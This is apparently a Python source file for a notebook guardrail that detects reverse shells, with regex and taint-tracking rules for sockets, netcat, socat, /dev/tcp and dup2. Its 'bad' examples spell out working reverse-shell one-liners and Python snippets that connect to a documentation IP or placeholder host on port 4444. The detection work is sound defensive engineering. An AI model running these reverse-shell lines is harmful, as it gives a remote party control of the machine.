"""Shells whose input and output are a connection to another machine.

Whoever is at the other end works on this computer as its user.
"""

from __future__ import annotations

import ast
import re
from typing import Final

from spark_jupyter.guardrail.rule import Call, Command, Hit, Rule, on
from spark_jupyter.guardrail.rules._commands import RUNS, text_of
from spark_jupyter.guardrail.taint_state import State
from spark_jupyter.guardrail.taint_values import NETWORK, SAFE, UNKNOWN, Value

_CONNECTED: Final = (
    r"/dev/(?:tcp|udp)/|\b(?:nc|ncat|netcat)(?:\.exe)?\s(?![^\n;&|#]{0,200}(?<=\s)-\w*z)|\b(?:telnet|socat)\s|"
    r"\bopenssl\s+s_client\b|\bsocket\.|\bfsockopen\b|\bSocket\b"
)
"""Programs and names that open a connection; with ``-z`` only a port is looked at."""
_CONNECTS: Final = re.compile(_CONNECTED)
_STARTED: Final = "\0shell "
"""Beginning of marker variables that no code can name: a shell was started as what comes behind it."""
_ALONE: Final = re.compile(
    r"(?:\S*/)?(?:(?:ba|z|da|k)?sh|cmd(?:\.exe)?|(?:powershell|pwsh)(?:\.exe)?)(?:\s+-\w+)*", re.IGNORECASE
)
_SHELL: Final = r"(?:/\w+)*/?(?:ba|z|da|k)?sh\b"
_RUNS: Final = re.compile(
    rf"\b(?:ba|z|da|k|c|tc)?sh\s+(?:-\w*i|[0-9]*[<>]&)|\|\s*{_SHELL}(?!\s+-?\w)|\bdup2\b|\bpty\.spawn\b|"
    rf"\b(?:nc|ncat|netcat|socat)\b[^\n;&|]{{0,200}}\s(?:-[ec]\s+[\"']?(?:{_SHELL}|(?:/\w+)*/?(?:cmd|powershell)\b)|--(?:sh-)?exec\b)|"
    rf"\bsocat\b[^\n;|]{{0,200}}\b(?:exec|system):[\"']?(?:{_SHELL}|cmd\b|powershell\b)",
    re.IGNORECASE,
)
_EACH_LINE: Final = re.compile(
    rf"(?:<&\s*[0-9]|{_CONNECTED})[^\n|;]{{0,200}}\|\s*while\s+(?:\w+=\S*\s+)?read\b(?:\s+-\S+(?:\s+\d+)?)*(?:\s+(?P<line>\w+)\b)?"
    rf"[^\n]{{0,400}}?(?:[;&|(`]|\bdo\b|\bthen\b)\s*(?:[\"']?\$\{{?(?:(?P=line)|REPLY)\b|eval\s|{_SHELL}\s+-c\s+[\"']?\$\{{?(?:(?P=line)|REPLY)\b)"
)
"""``nc … | while read line; do $line; done``: what comes over the connection is run."""


def _is_one(text: str) -> bool:
    return _CONNECTS.search(text) is not None and (_RUNS.search(text) or _EACH_LINE.search(text)) is not None


def _command(event: Command, state: State) -> Hit | None:
    return Hit(event.node) if _is_one(event.text) else None


def _program(call: Call, state: State) -> Hit | None:
    streams = (call.kwargs.get(name) for name in ("stdin", "stdout"))
    shell = _ALONE.fullmatch(text_of(call).strip()) is not None
    for target in _targets(state.statement):
        if shell or state.lookup(_STARTED + target) is not None:
            state.store(_STARTED + target, SAFE if shell else UNKNOWN)
    given = any(stream is not None and _is_connection(stream) for stream in streams)
    return Hit(call.node) if given or _is_one(text_of(call)) else None


def _told(call: Call, state: State) -> Hit | None:
    """``shell.stdin.write(connection.recv(1024))``."""
    given = call.argument(0).flows
    stream = call.node.func.value if isinstance(call.node.func, ast.Attribute) else None
    if not isinstance(stream, ast.Attribute) or stream.attr != "stdin":
        return None
    started = state.lookup(_STARTED + ast.unparse(stream.value))
    shell = started is not None and started.safe
    return Hit(call.node) if shell and any(origin.label == NETWORK for origin, _ in given) else None


def _targets(statement: ast.stmt | None) -> list[str]:
    """What a statement assigns to."""
    if isinstance(statement, ast.With | ast.AsyncWith):
        targets = [item.optional_vars for item in statement.items]
    else:
        targets = [*getattr(statement, "targets", ()), getattr(statement, "target", None)]
    return [ast.unparse(target) for target in targets if isinstance(target, ast.Name | ast.Attribute)]


def _is_connection(value: Value) -> bool:
    return value.name.startswith("socket.") and not value.name.endswith(("[]", "name()"))


def _dup(call: Call, state: State) -> Hit | None:
    """``os.dup2(connection.fileno(), 0)``: the standard streams of what is started next."""
    onto = call.argument(1, "fd2")
    standard = onto.const in (0, 1, 2) if onto.is_constant else onto.name.startswith("sys.std") or onto.safe
    return Hit(call.node) if standard and _is_connection(call.argument(0, "fd")) else None


RULE: Final = Rule(
    id="reverse-shell",
    cwe=506,
    severity="block",
    message="A shell is joined to a connection here: whoever is at its other end works on this computer as you do.",
    remedy="To work on a machine from elsewhere use ssh, which asks who you are.",
    bad=(
        "!bash -i >& /dev/tcp/198.51.100.7/4444 0>&1",
        "import os, socket\ns = socket.create_connection((HOST, 4444))\nos.dup2(s.fileno(), 0)",
        'import socket, subprocess\ns = socket.create_connection((HOST, 4444))\nsubprocess.Popen(["sh"], stdin=s, stdout=s)',
    ),
    good=(
        "!timeout 1 bash -c '</dev/tcp/localhost/5432' && echo up",
        "!nc -z localhost 5432",
        'import os\nlog = os.open("log.txt", os.O_WRONLY)\nos.dup2(log, 1)',
    ),
    calls={
        **on(RUNS, _program),
        "os.dup2": _dup,
    },
    methods={"write": _told},
    command=_command,
)
